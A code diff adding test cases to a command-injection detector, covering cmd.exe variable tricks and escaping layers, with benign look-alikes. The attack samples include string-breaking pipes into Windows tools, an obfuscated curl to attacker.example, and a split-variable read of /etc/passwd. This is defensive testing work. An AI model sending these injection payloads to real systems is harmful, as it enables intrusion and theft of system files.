@@ -361,3 +361,20 @@ describe('cmdi detector: word-list evasions and whole-value shapes (third wave)'
     { value: 'if (price) == (cost) we lose', location: 'body' },
   ]);
 });
+
+describe('cmdi detector: cmd.exe variables and a string layer in between', () => {
+  checkAttacks(detectCmdi, 'cmdi', [
+    // a quote closing the application's string mid-value, then a pipe into a Windows tool
+    { value: 'anna@shop.example"|bcdboot %SYSTEMROOT%\\win.ini', location: 'body' },
+    { value: 'x|type %WINDIR%\\system32\\drivers\\etc\\hosts' },
+    // backslashes doubled for a PHP/JS string literal between the request and the shell
+    { value: "v='u';cu$v\\\\r\\l attacker.example\n", location: 'body', rule: 'cmdi.obfuscated_command' },
+    { value: 'a=ca;b=t;$a\\\\$b /etc/passwd', rule: 'cmdi.obfuscated_command' },
+  ]);
+  checkBenign(detectCmdi, [
+    { value: 'C:\\\\Users\\\\anna\\\\cat.txt' },
+    { value: '{"pattern":"\\\\d+\\\\.\\\\d+"}', location: 'body' },
+    { value: 'Save it under %APPDATA% and restart', location: 'body' },
+    { value: 'prices up 100%Pure%Love', location: 'body' },
+  ]);
+});
